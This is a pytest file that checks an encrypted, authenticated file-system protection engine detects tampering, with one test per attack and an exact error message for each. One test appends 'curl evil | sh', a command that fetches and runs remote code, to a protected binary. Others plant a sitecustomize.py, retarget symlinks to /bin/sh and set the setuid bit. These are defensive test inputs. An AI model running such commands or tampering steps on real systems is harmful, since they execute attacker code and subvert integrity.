"""Protected image regions: round trip, and every tampering detected with a line naming it."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from pulumi_sconify.engine.fspf import (
    IntegrityError,
    Protection,
    Region,
    UsageError,
    decrypt_tree,
    generate_key,
    protect_tree,
    verify_tree,
)
from tests.support.fspf_trees import CHUNK, REGIONS, SECRET_CODE, ProtectedTree, build_source


def files_below(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def test_round_trip(tree: ProtectedTree, tmp_path: Path) -> None:
    verify_tree(tree.out, tree.key, tree.tag)
    destination = tmp_path / "plain"
    decrypt_tree(tree.out, destination, tree.key, tree.tag)
    source_code = {
        k: v
        for k, v in files_below(tree.source).items()
        if k.startswith("code/") and not k.startswith("code/static/")
    }
    assert files_below(destination) == source_code
    assert (destination / "code" / "empty").read_bytes() == b""
    # Authenticated and unprotected files stay in place, byte for byte, with their modes.
    assert (tree.out / "usr/bin/python3").read_bytes() == (tree.source / "usr/bin/python3").read_bytes()
    assert (tree.out / "usr/bin/python3").stat().st_mode & 0o777 == 0o755
    assert (tree.out / "usr/bin/python").readlink() == Path("python3")
    assert (tree.out / "code/static/index.html").read_text() == "<h1>public</h1>\n"
    assert (tree.out / "usr/tmp/scratch").read_text() == "not protected\n"


def test_no_plaintext_of_an_encrypted_region_remains(tree: ProtectedTree) -> None:
    everything = b"".join(files_below(tree.out).values())
    assert b"7f3a9c" not in everything
    assert (tree.source / "code/lib/big.bin").read_bytes()[:64] not in everything
    # Only mount points remain where the encrypted region was.
    assert sorted(p.name for p in (tree.out / "code").iterdir()) == ["static"]


def test_fspf_layout(tree: ProtectedTree) -> None:
    assert (tree.out / "fspf" / "fs.fspf").is_file()
    assert len(list((tree.out / "fspf" / "data").iterdir())) == 4  # app.py, big.bin, other.bin, empty
    assert len(tree.tag) == 16


def test_unprotected_region_may_change(tree: ProtectedTree) -> None:
    (tree.out / "usr/tmp/scratch").write_text("changed\n")
    (tree.out / "usr/tmp/new").write_text("new\n")
    (tree.out / "etc/hostname").write_text("changed\n")
    verify_tree(tree.out, tree.key, tree.tag)


def refused(tree: ProtectedTree) -> str:
    with pytest.raises(IntegrityError) as caught:
        verify_tree(tree.out, tree.key, tree.tag)
    return str(caught.value)


# -- attacks on authenticated files -----------------------------------------------------------------


def test_changed_byte_in_authenticated_file(tree: ProtectedTree) -> None:
    target = tree.out / "usr/bin/python3"
    data = bytearray(target.read_bytes())
    data[2 * CHUNK + 5] ^= 1
    target.write_bytes(bytes(data))
    assert refused(tree) == (
        f"Verification of file chunk 2 (bytes {2 * CHUNK} to {3 * CHUNK - 1}) of file /usr/bin/python3 failed"
    )


def test_truncated_authenticated_file(tree: ProtectedTree) -> None:
    target = tree.out / "usr/bin/python3"
    target.write_bytes(target.read_bytes()[: 3 * CHUNK])
    assert "of file /usr/bin/python3 failed" in refused(tree)


def test_extended_authenticated_file(tree: ProtectedTree) -> None:
    with (tree.out / "usr/bin/helper").open("ab") as stream:
        stream.write(b"curl evil | sh\n")
    assert "chunk 0 (bytes 0 to" in refused(tree)


def test_reordered_chunks_of_authenticated_file(tree: ProtectedTree) -> None:
    target = tree.out / "usr/bin/python3"
    data = target.read_bytes()
    target.write_bytes(data[CHUNK : 2 * CHUNK] + data[:CHUNK] + data[2 * CHUNK :])
    assert "chunk 0 (bytes 0 to 4095) of file /usr/bin/python3" in refused(tree)


def test_swapped_authenticated_files(tree: ProtectedTree) -> None:
    a, b = tree.out / "usr/bin/python3", tree.out / "usr/bin/helper"
    data_a, data_b = a.read_bytes(), b.read_bytes()
    a.write_bytes(data_b)
    b.write_bytes(data_a)
    assert "of file /usr/bin/" in refused(tree)


def test_moved_authenticated_file(tree: ProtectedTree) -> None:
    (tree.out / "usr/bin/helper").rename(tree.out / "usr/bin/helper2")
    assert "/usr/bin/helper2 failed: unexpected entry in authenticated region /usr" in refused(tree)


def test_deleted_authenticated_file(tree: ProtectedTree) -> None:
    (tree.out / "usr/bin/helper").unlink()
    assert refused(tree) == "Verification of /usr/bin/helper failed: the file is missing"


def test_added_file_in_authenticated_region(tree: ProtectedTree) -> None:
    (tree.out / "usr/bin/sitecustomize.py").write_text("import os\n")
    assert refused(tree) == (
        "Verification of /usr/bin/sitecustomize.py failed: unexpected entry in authenticated region /usr"
    )


def test_retargeted_symlink(tree: ProtectedTree) -> None:
    (tree.out / "usr/bin/python").unlink()
    (tree.out / "usr/bin/python").symlink_to("/tmp/evil")
    assert refused(tree) == "Verification of /usr/bin/python failed: the link points elsewhere"


def test_file_replaced_by_symlink(tree: ProtectedTree) -> None:
    (tree.out / "usr/bin/helper").unlink()
    (tree.out / "usr/bin/helper").symlink_to("/bin/sh")
    assert "/usr/bin/helper failed: expected a file, found a symlink" in refused(tree)


def test_changed_permissions(tree: ProtectedTree) -> None:
    (tree.out / "usr/bin/helper").chmod(0o4755)
    assert refused(tree) == "Verification of /usr/bin/helper failed: its permissions changed"


# -- attacks on encrypted files ---------------------------------------------------------------------


def test_changed_byte_in_encrypted_file(tree: ProtectedTree) -> None:
    blob = tree.blob_of("/code/lib/big.bin")
    data = bytearray(blob.read_bytes())
    data[CHUNK + 16 + 3] ^= 0x80  # inside the second sealed chunk
    blob.write_bytes(bytes(data))
    assert refused(tree) == (
        f"Verification of file chunk 1 (bytes {CHUNK} to {2 * CHUNK - 1}) of file /code/lib/big.bin failed"
    )


def test_reordered_chunks_of_encrypted_file(tree: ProtectedTree) -> None:
    blob = tree.blob_of("/code/lib/big.bin")
    data = blob.read_bytes()
    sealed = CHUNK + 16
    blob.write_bytes(data[sealed : 2 * sealed] + data[:sealed] + data[2 * sealed :])
    assert "chunk 0 (bytes 0 to 4095) of file /code/lib/big.bin" in refused(tree)


def test_truncated_encrypted_file(tree: ProtectedTree) -> None:
    blob = tree.blob_of("/code/lib/big.bin")
    blob.write_bytes(blob.read_bytes()[: 3 * (CHUNK + 16)])  # the last, short chunk is gone
    assert refused(tree) == (
        f"Verification of file chunk 3 (bytes {3 * CHUNK} to {3 * CHUNK + 122}) "
        "of file /code/lib/big.bin failed"
    )


def test_extended_encrypted_file(tree: ProtectedTree) -> None:
    with tree.blob_of("/code/app.py").open("ab") as stream:
        stream.write(b"\x00" * 32)
    assert "of file /code/app.py failed" in refused(tree)


def test_swapped_encrypted_files(tree: ProtectedTree) -> None:
    a, b = tree.blob_of("/code/lib/big.bin"), tree.blob_of("/code/lib/other.bin")
    data_a, data_b = a.read_bytes(), b.read_bytes()  # same size: only the keys tell them apart
    a.write_bytes(data_b)
    b.write_bytes(data_a)
    assert "chunk 0 (bytes 0 to 4095) of file /code/lib/" in refused(tree)


def test_deleted_encrypted_file(tree: ProtectedTree) -> None:
    tree.blob_of("/code/app.py").unlink()
    assert refused(tree) == "Verification of file /code/app.py failed: its encrypted content is missing"


def test_plaintext_planted_in_encrypted_region(tree: ProtectedTree) -> None:
    (tree.out / "code/app.py").write_text("print('replaced')\n")
    assert refused(tree) == "Verification of /code/app.py failed: unexpected entry in encrypted region /code"


def test_extra_file_in_fspf(tree: ProtectedTree) -> None:
    (tree.out / "fspf/data/extra").write_bytes(b"x")
    assert refused(tree) == "Verification of /fspf/data/extra failed: unexpected entry in /fspf"


# -- attacks on the metadata ------------------------------------------------------------------------


def test_edited_metadata(tree: ProtectedTree) -> None:
    metadata = tree.out / "fspf/fs.fspf"
    data = bytearray(metadata.read_bytes())
    data[40] ^= 1
    metadata.write_bytes(bytes(data))
    assert refused(tree) == "Verification of /fspf/fs.fspf failed: wrong key, or the file was changed"


def test_metadata_of_another_state_with_the_same_key(tree: ProtectedTree, tmp_path: Path) -> None:
    """An older protected image (same key, different tag) must not pass for the one the policy names."""
    (tree.source / "code/app.py").write_text("print('older version')\n")
    older = tmp_path / "older"
    protect_tree(tree.source, older, tree.key, REGIONS, chunk_size=CHUNK)
    shutil.rmtree(tree.out / "fspf")
    shutil.copytree(older / "fspf", tree.out / "fspf")
    assert "it is not the protected state the policy names (tag mismatch)" in refused(tree)


def test_deleted_metadata(tree: ProtectedTree) -> None:
    (tree.out / "fspf/fs.fspf").unlink()
    assert refused(tree) == "Verification of /fspf/fs.fspf failed: the file is missing"


def test_wrong_key(tree: ProtectedTree) -> None:
    with pytest.raises(IntegrityError, match="wrong key"):
        verify_tree(tree.out, generate_key(), tree.tag)


# -- decrypt ------------------------------------------------------------------------------------------


def test_failed_decrypt_leaves_nothing_behind(tree: ProtectedTree, tmp_path: Path) -> None:
    blob = tree.blob_of("/code/lib/other.bin")
    blob.write_bytes(blob.read_bytes()[:-1])
    destination = tmp_path / "plain"
    destination.mkdir()
    with pytest.raises(IntegrityError):
        decrypt_tree(tree.out, destination, tree.key, tree.tag)
    assert list(destination.iterdir()) == []


def test_decrypt_refuses_a_symlink_in_the_destination(tree: ProtectedTree, tmp_path: Path) -> None:
    destination = tmp_path / "plain"
    destination.mkdir()
    (destination / "code").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(IntegrityError, match="symbolic link in the destination"):
        decrypt_tree(tree.out, destination, tree.key, tree.tag)
    assert not (tmp_path / "elsewhere").exists()


def test_single_file_region(tmp_path: Path) -> None:
    source = build_source(tmp_path / "src")
    key = generate_key()
    result = protect_tree(source, tmp_path / "out", key, [Region("/etc/hostname", Protection.ENCRYPTED)])
    assert not (tmp_path / "out/etc/hostname").exists()
    decrypt_tree(tmp_path / "out", tmp_path / "plain", key, result.tag)
    assert (tmp_path / "plain/etc/hostname").read_text() == "native\n"


# -- bad requests change nothing -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("regions", "message"),
    [
        ([Region("code", Protection.ENCRYPTED)], "normalised absolute path"),
        ([Region("/code/../etc", Protection.ENCRYPTED)], "normalised absolute path"),
        ([Region("/fspf", Protection.ENCRYPTED)], "holds the protection metadata"),
        ([Region("/code", Protection.ENCRYPTED), Region("/code", Protection.AUTHENTICATED)], "both"),
    ],
)
def test_bad_regions_are_refused(tmp_path: Path, regions: list[Region], message: str) -> None:
    source = build_source(tmp_path / "src")
    with pytest.raises(UsageError, match=message):
        protect_tree(source, tmp_path / "out", generate_key(), regions)
    assert not (tmp_path / "out").exists()


def test_protecting_a_protected_tree_is_refused(tree: ProtectedTree, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="already contains /fspf"):
        protect_tree(tree.out, tmp_path / "again", tree.key, REGIONS)


def test_non_empty_output_is_refused(tmp_path: Path) -> None:
    source = build_source(tmp_path / "src")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep").write_text("mine\n")
    with pytest.raises(UsageError, match="not an empty directory"):
        protect_tree(source, tmp_path / "out", generate_key(), REGIONS)
    assert (tmp_path / "out" / "keep").read_text() == "mine\n"


def test_special_files_are_refused(tmp_path: Path) -> None:
    source = build_source(tmp_path / "src")
    os.mkfifo(source / "code" / "pipe")
    with pytest.raises(UsageError, match="/code/pipe: unsupported file type"):
        protect_tree(source, tmp_path / "out", generate_key(), REGIONS)


def test_each_protection_gets_a_fresh_state(tmp_path: Path) -> None:
    source = build_source(tmp_path / "src")
    key = generate_key()
    first = protect_tree(source, tmp_path / "a", key, REGIONS)
    second = protect_tree(source, tmp_path / "b", key, REGIONS)
    assert first.tag != second.tag
    with pytest.raises(IntegrityError, match="tag mismatch"):
        verify_tree(tmp_path / "b", key, first.tag)
    _ = SECRET_CODE
